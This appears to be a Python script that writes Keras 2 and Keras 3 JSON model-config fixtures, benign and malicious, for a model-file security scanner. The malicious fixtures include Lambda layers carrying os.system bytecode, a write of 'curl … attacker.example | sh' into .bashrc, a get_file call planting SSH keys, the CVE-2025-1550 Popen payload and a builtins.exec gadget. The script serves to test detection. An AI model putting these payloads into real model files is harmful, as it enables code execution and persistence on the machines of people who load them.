#!/usr/bin/python3
"""Regenerate the Keras JSON fixtures of internal/format/keras (also read by internal/detect/keras).

Keras and TensorFlow are not installable here, so the configs are written by hand after what
Keras 2 (tf.keras 2.x: model.to_json / the HDF5 "model_config" attribute / keras_metadata.pb) and
Keras 3 (config.json, metadata.json of .keras archives) write. Lambda bytecode is the marshal data
of ../../pymarshal/testdata/*.marshal (see gen_marshal.py there), base64-encoded the way Keras'
func_dump does (codecs base64: 76-character lines). Nothing is executed.

Run from this directory: /usr/bin/python3 gen_configs.py
"""
import codecs
import json
import os

MARSHAL = os.path.join("..", "..", "pymarshal", "testdata")


def b64(name):
    with open(os.path.join(MARSHAL, name + ".marshal"), "rb") as f:
        return codecs.encode(f.read(), "base64").decode("ascii")


def glorot():
    return {"class_name": "GlorotUniform", "config": {"seed": None}}


def zeros():
    return {"class_name": "Zeros", "config": {}}


def k2_dense(name, units, activation="linear"):
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": glorot(), "bias_initializer": zeros(),
        "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None}}


def k2_lambda(name, function, function_type="lambda", module="__main__"):
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": function,
        "function_type": function_type, "module": module, "output_shape": None,
        "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}


def k2_sequential(name, layers):
    first = {"class_name": "InputLayer", "config": {
        "batch_input_shape": [None, 16], "dtype": "float32", "sparse": False, "ragged": False,
        "name": name + "_input"}}
    return {"class_name": "Sequential", "config": {"name": name, "layers": [first] + layers}}


def k2_sequential_benign():
    conv = {"class_name": "Conv2D", "config": {
        "name": "conv2d", "trainable": True, "dtype": "float32", "batch_input_shape": [None, 28, 28, 1],
        "filters": 32, "kernel_size": [3, 3], "strides": [1, 1], "padding": "valid",
        "data_format": "channels_last", "dilation_rate": [1, 1], "groups": 1, "activation": "relu",
        "use_bias": True, "kernel_initializer": glorot(), "bias_initializer": zeros(),
        "kernel_regularizer": {"class_name": "L2", "config": {"l2": 9.999999747378752e-05}},
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}}
    bn = {"class_name": "BatchNormalization", "config": {
        "name": "batch_normalization", "trainable": True, "dtype": "float32", "axis": [3], "momentum": 0.99,
        "epsilon": 0.001, "center": True, "scale": True, "beta_initializer": zeros(),
        "gamma_initializer": {"class_name": "Ones", "config": {}}, "moving_mean_initializer": zeros(),
        "moving_variance_initializer": {"class_name": "Ones", "config": {}}, "beta_regularizer": None,
        "gamma_regularizer": None, "beta_constraint": None, "gamma_constraint": None}}
    relu = {"class_name": "ReLU", "config": {"name": "re_lu", "trainable": True, "dtype": "float32",
                                             "max_value": float("inf"), "negative_slope": 0.0, "threshold": float("nan")}}
    pool = {"class_name": "MaxPooling2D", "config": {"name": "max_pooling2d", "trainable": True, "dtype": "float32",
                                                     "pool_size": [2, 2], "padding": "valid", "strides": [2, 2],
                                                     "data_format": "channels_last"}}
    flat = {"class_name": "Flatten", "config": {"name": "flatten", "trainable": True, "dtype": "float32",
                                                "data_format": "channels_last"}}
    drop = {"class_name": "Dropout", "config": {"name": "dropout", "trainable": True, "dtype": "float32",
                                                "rate": 0.5, "noise_shape": None, "seed": None}}
    return {"class_name": "Sequential", "config": {"name": "mnist_cnn", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 28, 28, 1], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "conv2d_input"}},
        conv, bn, relu, pool, flat, drop, k2_dense("dense", 10, "softmax")]},
        "keras_version": "2.12.0", "backend": "tensorflow"}


def k2_functional_benign():
    def node(*names):
        return [[[n, 0, 0, {}] for n in names]]
    layers = [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 50], "dtype": "int32", "sparse": False,
                                                "ragged": False, "name": "tokens"}, "name": "tokens", "inbound_nodes": []},
        {"class_name": "Embedding", "config": {"name": "embedding", "trainable": True, "dtype": "float32",
                                               "batch_input_shape": [None, 50], "input_dim": 20000, "output_dim": 128,
                                               "embeddings_initializer": {"class_name": "RandomUniform", "config": {
                                                   "minval": -0.05, "maxval": 0.05, "seed": None}},
                                               "mask_zero": True, "input_length": 50},
         "name": "embedding", "inbound_nodes": node("tokens")},
        {"class_name": "Bidirectional", "config": {
            "name": "bidirectional", "trainable": True, "dtype": "float32", "merge_mode": "concat",
            "layer": {"class_name": "LSTM", "config": {
                "name": "lstm", "trainable": True, "dtype": "float32", "return_sequences": True, "units": 64,
                "activation": "tanh", "recurrent_activation": "sigmoid", "kernel_initializer": glorot(),
                "recurrent_initializer": {"class_name": "Orthogonal", "config": {"gain": 1.0, "seed": None}},
                "unit_forget_bias": True, "dropout": 0.0, "recurrent_dropout": 0.0, "implementation": 2}}},
         "name": "bidirectional", "inbound_nodes": node("embedding")},
        {"class_name": "TimeDistributed", "config": {"name": "time_distributed", "trainable": True,
                                                     "dtype": "float32", "layer": k2_dense("dense", 32, "relu")},
         "name": "time_distributed", "inbound_nodes": node("bidirectional")},
        {"class_name": "TFOpLambda", "config": {"name": "tf.math.reduce_mean", "trainable": True, "dtype": "float32",
                                                "function": "math.reduce_mean"},
         "name": "tf.math.reduce_mean", "inbound_nodes": [["time_distributed", 0, 0, {"axis": 1}]]},
        dict(k2_dense("logits", 2, "softmax"), name="logits", inbound_nodes=node("tf.math.reduce_mean")),
    ]
    return {"class_name": "Functional", "config": {"name": "classifier", "layers": layers,
                                                   "input_layers": [["tokens", 0, 0]],
                                                   "output_layers": [["logits", 0, 0]]},
            "keras_version": "2.13.1", "backend": "tensorflow"}


def k2_tfoplambda_write_file():
    cfg = k2_functional_benign()
    cfg["config"]["layers"].insert(1, {
        "class_name": "TFOpLambda",
        "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32", "function": "io.write_file"},
        "name": "tf.io.write_file",
        "inbound_nodes": [["tokens", 0, 0, {"filename": "/home/user/.bashrc",
                                             "contents": "curl -s http://attacker.example/x | sh"}]]})
    return cfg


def k2_lambda_layouts():
    layers = [k2_lambda("lambda_py%s" % v, [b64("py%s_os_system" % v), None, None])
              for v in ("27", "37", "38", "311", "313")]
    return k2_sequential("layouts", layers)


def k2_training_config():
    return {"loss": {"class_name": "Custom>FocalLoss", "config": {"name": "focal_loss", "gamma": 2.0,
                                                                  "reduction": "auto"}},
            "metrics": [[{"class_name": "MeanMetricWrapper", "config": {"name": "accuracy", "dtype": "float32",
                                                                        "fn": "categorical_accuracy"}}]],
            "weighted_metrics": None, "loss_weights": None,
            "optimizer_config": {"class_name": "Adam", "config": {
                "name": "Adam", "learning_rate": 0.0010000000474974513, "decay": 0.0, "beta_1": 0.8999999761581421,
                "beta_2": 0.9990000128746033, "epsilon": 1e-07, "amsgrad": False}}}


def savedmodel_lambda():
    lam = k2_lambda("lambda", [b64("py311_os_system"), None, None])
    lam.update({"name": "lambda", "trainable": True, "expects_training_arg": False, "dtype": "float32",
                "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
                "preserve_input_structure_in_config": False, "autocast": True, "shared_object_id": 1})
    return lam


# Keras 3 (config.json)

def k3(module, cls, config, registered=None, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    d.update(extra)
    return d


def k3_policy():
    return k3("keras", "DTypePolicy", {"name": "float32"})


def k3_init(cls, **cfg):
    return k3("keras.initializers", cls, cfg or {"seed": None})


def k3_tensor(layer, shape):
    return {"class_name": "__keras_tensor__", "config": {"shape": shape, "dtype": "float32",
                                                         "keras_history": [layer, 0, 0]}}


def k3_layer(cls, name, inbound_from, shape, **cfg):
    config = {"name": name, "trainable": True, "dtype": k3_policy()}
    config.update(cfg)
    return k3("keras.layers", cls, config, build_config={"input_shape": shape}, name=name,
              inbound_nodes=[{"args": [k3_tensor(inbound_from, shape)], "kwargs": {}}])


def k3_input(name, shape):
    return k3("keras.layers", "InputLayer", {"batch_shape": shape, "dtype": "float32", "sparse": False,
                                             "name": name}, name=name, inbound_nodes=[])


def k3_functional(name, layers, outputs, compile_config=None):
    d = k3("keras.src.models.functional", "Functional", {
        "name": name, "trainable": True, "layers": layers, "input_layers": [[layers[0]["name"], 0, 0]],
        "output_layers": [[outputs, 0, 0]]}, "Functional", build_config={"input_shape": None})
    if compile_config:
        d["compile_config"] = compile_config
    return d


def k3_functional_benign():
    dense = k3_layer("Dense", "dense", "input_layer", [None, 4], units=16, activation="relu", use_bias=True,
                     kernel_initializer=k3_init("GlorotUniform"), bias_initializer=k3("keras.initializers", "Zeros", {}),
                     kernel_regularizer=None, bias_regularizer=None, kernel_constraint=None, bias_constraint=None)
    drop = k3_layer("Dropout", "dropout", "dense", [None, 16], rate=0.2, seed=None, noise_shape=None)
    bn = k3_layer("BatchNormalization", "batch_normalization", "dropout", [None, 16], axis=-1, momentum=0.99,
                  epsilon=0.001, center=True, scale=True)
    act = k3_layer("Activation", "activation", "batch_normalization", [None, 16],
                   activation=k3("keras.activations", "function", "gelu", "gelu"))
    out = k3_layer("Dense", "head", "activation", [None, 16], units=3, activation="softmax", use_bias=True,
                   kernel_initializer=k3_init("GlorotUniform"), bias_initializer=k3("keras.initializers", "Zeros", {}))
    compile_config = {
        "optimizer": k3("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.0010000000474974513,
                                                     "weight_decay": None, "clipnorm": None, "global_clipnorm": None,
                                                     "clipvalue": None, "use_ema": False, "ema_momentum": 0.99,
                                                     "ema_overwrite_frequency": None, "loss_scale_factor": None,
                                                     "gradient_accumulation_steps": None, "beta_1": 0.9,
                                                     "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}),
        "loss": k3("builtins", "function", "sparse_categorical_crossentropy", "sparse_categorical_crossentropy"),
        "loss_weights": None,
        "metrics": [k3("keras.metrics", "SparseCategoricalAccuracy", {"name": "acc", "dtype": "float32"})],
        "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}
    return k3_functional("tabular", [k3_input("input_layer", [None, 4]), dense, drop, bn, act, out], "head",
                         compile_config)


def k3_sequential_benign():
    emb = k3("keras.layers", "Embedding", {"name": "embedding", "trainable": True, "dtype": k3_policy(),
                                           "input_dim": 10000, "output_dim": 64,
                                           "embeddings_initializer": k3_init("RandomUniform", minval=-0.05,
                                                                             maxval=0.05, seed=None),
                                           "mask_zero": False}, build_config={"input_shape": [None, 100]})
    lstm = k3("keras.layers", "LSTM", {"name": "lstm", "trainable": True, "dtype": k3_policy(), "units": 32,
                                       "activation": "tanh", "recurrent_activation": "sigmoid",
                                       "kernel_initializer": k3_init("GlorotUniform"),
                                       "recurrent_initializer": k3_init("Orthogonal", gain=1.0, seed=None),
                                       "return_sequences": True, "seed": None})
    bi = k3("keras.layers", "Bidirectional", {"name": "bidirectional", "trainable": True, "dtype": k3_policy(),
                                              "merge_mode": "concat", "layer": lstm})
    td = k3("keras.layers", "TimeDistributed", {"name": "time_distributed", "trainable": True, "dtype": k3_policy(),
                                                "layer": k3("keras.layers", "Dense", {
                                                    "name": "dense", "trainable": True, "dtype": k3_policy(),
                                                    "units": 8, "activation": "relu"})})
    conv = k3("keras.layers", "Conv1D", {"name": "conv1d", "trainable": True, "dtype": k3_policy(), "filters": 16,
                                         "kernel_size": [3], "strides": [1], "padding": "same", "activation": "relu"})
    pool = k3("keras.layers", "GlobalAveragePooling1D", {"name": "pool", "trainable": True, "dtype": k3_policy(),
                                                         "data_format": "channels_last", "keepdims": False})
    return k3("keras", "Sequential", {"name": "sequential", "trainable": True, "dtype": k3_policy(),
                                      "layers": [k3("keras.layers", "InputLayer", {"batch_shape": [None, 100],
                                                                                   "dtype": "int32", "sparse": False,
                                                                                   "name": "input_layer"}),
                                                 emb, bi, td, conv, pool]},
              build_config={"input_shape": [None, 100]})


def k3_keras_nlp_benign():
    backbone = k3("keras_nlp.src.models.gemma.gemma_backbone", "GemmaBackbone", {
        "name": "gemma_backbone", "trainable": True, "vocabulary_size": 256000, "num_layers": 18,
        "num_query_heads": 8, "num_key_value_heads": 1, "hidden_dim": 2048, "intermediate_dim": 32768,
        "head_dim": 256, "layer_norm_epsilon": 1e-06, "dropout": 0}, "keras_nlp>GemmaBackbone")
    tokenizer = k3("keras_nlp.src.models.gemma.gemma_tokenizer", "GemmaTokenizer", {
        "name": "gemma_tokenizer", "trainable": True, "dtype": "int32", "proto": None, "sequence_length": None},
        "keras_nlp>GemmaTokenizer")
    pre = k3("keras_nlp.src.models.gemma.gemma_causal_lm_preprocessor", "GemmaCausalLMPreprocessor", {
        "name": "gemma_causal_lm_preprocessor", "trainable": True, "dtype": "float32", "tokenizer": tokenizer,
        "sequence_length": 8192, "add_start_token": True, "add_end_token": True},
        "keras_nlp>GemmaCausalLMPreprocessor")
    hub = k3("keras_hub.src.models.gemma.gemma_backbone", "GemmaBackbone", {"name": "hub_backbone"},
             "keras_hub>GemmaBackbone")
    return k3("keras_nlp.src.models.gemma.gemma_causal_lm", "GemmaCausalLM", {
        "backbone": backbone, "preprocessor": pre, "name": "gemma_causal_lm", "trainable": True,
        "alternate": hub}, "keras_nlp>GemmaCausalLM")


def k3_custom_object():
    cfg = k3_sequential_benign()
    cfg["config"]["layers"].append(k3("my_project.layers", "ResidualBlock", {"name": "residual_block",
                                                                            "trainable": True, "filters": 16},
                                      "Custom>ResidualBlock"))
    cfg["config"]["layers"].append(k3("keras.layers", "Dense", {
        "name": "scaled", "trainable": True, "units": 4,
        "kernel_constraint": k3(None, "UnitNormClip", {"axis": 0}, "MyPackage>UnitNormClip")}))
    return cfg


def k3_cve_2025_1550():
    # The published GHSA-48g7-3x6r-xfhp proof of concept shape: a "layer" that is a module function,
    # called with its inbound_nodes arguments while the functional model is rebuilt.
    return {"module": "keras.models", "class_name": "Model", "config": {
        "name": "mvlttt", "layers": [{"name": "mvlttt", "class_name": "function", "config": "Popen",
                                      "module": "subprocess",
                                      "inbound_nodes": [{"args": [["touch", "/tmp/1337"]], "kwargs": {"bufsize": -1}}]}],
        "input_layers": [["mvlttt", 0, 0]], "output_layers": [["mvlttt", 0, 0]]}}


def k3_builtins_exec():
    lam = k3("keras.layers", "Lambda", {
        "name": "lambda", "trainable": True, "dtype": k3_policy(),
        "function": k3("builtins", "function", "exec", "exec"),
        "arguments": {"__source": "import os; os.system('id')"}}, name="lambda",
        inbound_nodes=[{"args": [k3_tensor("input_layer", [None, 4])], "kwargs": {}}])
    return k3_functional("gadget", [k3_input("input_layer", [None, 4]), lam], "lambda")


def k3_get_file():
    fn = {"name": "fetch", "class_name": "function", "config": "get_file", "module": "keras.utils",
          "registered_name": "get_file",
          "inbound_nodes": [{"args": [], "kwargs": {
              "fname": "authorized_keys", "origin": "https://attacker.example/keys.txt",
              "cache_dir": "/root/.ssh", "cache_subdir": "", "force_download": True}}]}
    return k3("keras.models", "Model", {"name": "fetch", "layers": [fn], "input_layers": [["fetch", 0, 0]],
                                        "output_layers": [["fetch", 0, 0]]})


def k3_lambda_config(name, marshal_name, inbound):
    return k3("keras.layers", "Lambda", {
        "name": name, "trainable": True, "dtype": k3_policy(),
        "function": {"class_name": "__lambda__", "config": {"code": b64(marshal_name), "defaults": None,
                                                            "closure": None}},
        "arguments": {}}, name=name, inbound_nodes=[{"args": [k3_tensor(inbound, [None, 4])], "kwargs": {}}])


def k3_unsafe_deserialization():
    unlock = {"name": "unlock", "class_name": "function", "config": "enable_unsafe_deserialization",
              "module": "keras.config", "registered_name": "enable_unsafe_deserialization",
              "inbound_nodes": [{"args": [], "kwargs": {}}]}
    return k3_functional("unlock", [k3_input("input_layer", [None, 4]), unlock,
                                    k3_lambda_config("payload", "py311_os_system", "input_layer")], "payload")


def k3_torch_module_wrapper():
    tmw = k3("keras.layers", "TorchModuleWrapper", {
        "name": "torch_module_wrapper", "trainable": True, "dtype": k3_policy(),
        "module": {"class_name": "__bytes__", "config": {"value": "PK\u0003\u0004archive/data.pkl\u0080\u0002cposix\nsystem\n"}}},
        name="torch_module_wrapper", inbound_nodes=[{"args": [k3_tensor("input_layer", [None, 4])], "kwargs": {}}])
    return k3_functional("torch_wrapped", [k3_input("input_layer", [None, 4]), tmw], "torch_module_wrapper")


def k3_lambda():
    lam = k3_lambda_config("scale", "py311_benign", "input_layer")
    lam["config"]["output_shape"] = {"class_name": "__lambda__", "config": {"code": b64("py311_nested"),
                                                                            "defaults": ["curl -s http://attacker.example/p | sh"],
                                                                            "closure": None}}
    return k3_functional("lambdas", [k3_input("input_layer", [None, 4]), lam], "scale")


def k3_duplicate_keys():
    # Python's json keeps the last "module"; a scanner keeping the first sees keras.layers.
    return ('{"module": "keras", "class_name": "Sequential", "config": {"name": "dup", "layers": ['
            '{"module": "keras.layers", "class_name": "function", "config": "system", "module": "os", '
            '"registered_name": null}]}, "registered_name": null}')


def main():
    fixtures = {
        "h5_sequential_benign.json": k2_sequential_benign(),
        "h5_functional_benign.json": k2_functional_benign(),
        "h5_lambda_os_system.json": k2_sequential("evil", [k2_lambda("lambda", [b64("py311_os_system"), None, None])]),
        "h5_lambda_plain.json": k2_sequential("scaler", [k2_lambda("lambda", [b64("py311_benign"), None, None])]),
        "h5_lambda_layouts.json": k2_lambda_layouts(),
        "h5_lambda_nested.json": k2_sequential("nested", [k2_lambda(
            "lambda_nested", [b64("py311_nested"), ["curl -s http://attacker.example/p | sh"], None])]),
        "h5_lambda_by_name.json": k2_sequential("named", [k2_lambda("lambda_os", "system", "function", "os"),
                                                          k2_lambda("lambda_custom", "normalize_batch", "function",
                                                                    "__main__")]),
        "h5_tfoplambda_write_file.json": k2_tfoplambda_write_file(),
        "h5_training_config.json": k2_training_config(),
        "savedmodel_lambda.json": savedmodel_lambda(),
        "keras3_functional_benign.json": k3_functional_benign(),
        "keras3_sequential_benign.json": k3_sequential_benign(),
        "keras3_keras_nlp_benign.json": k3_keras_nlp_benign(),
        "keras3_custom_object.json": k3_custom_object(),
        "keras3_cve_2025_1550.json": k3_cve_2025_1550(),
        "keras3_builtins_exec.json": k3_builtins_exec(),
        "keras3_get_file.json": k3_get_file(),
        "keras3_unsafe_deserialization.json": k3_unsafe_deserialization(),
        "keras3_torch_module_wrapper.json": k3_torch_module_wrapper(),
        "keras3_lambda.json": k3_lambda(),
        "keras3_metadata.json": {"keras_version": "3.3.3", "date_saved": "2024-05-07@14:31:09"},
    }
    for name, obj in sorted(fixtures.items()):
        with open(name, "w") as f:
            json.dump(obj, f)  # allow_nan=True writes NaN/Infinity, as Keras' json.dumps does
    with open("keras3_duplicate_keys.json", "w") as f:
        f.write(k3_duplicate_keys())
    # json.loads(bytes) detects UTF-16/32, so Keras reads a UTF-16 config.json as well as UTF-8.
    with open("keras3_cve_2025_1550_utf16.json", "wb") as f:
        f.write(json.dumps(k3_cve_2025_1550()).encode("utf-16"))
    for name in sorted(os.listdir(".")):
        if name.endswith(".json"):
            print(name, os.path.getsize(name))


if __name__ == "__main__":
    main()
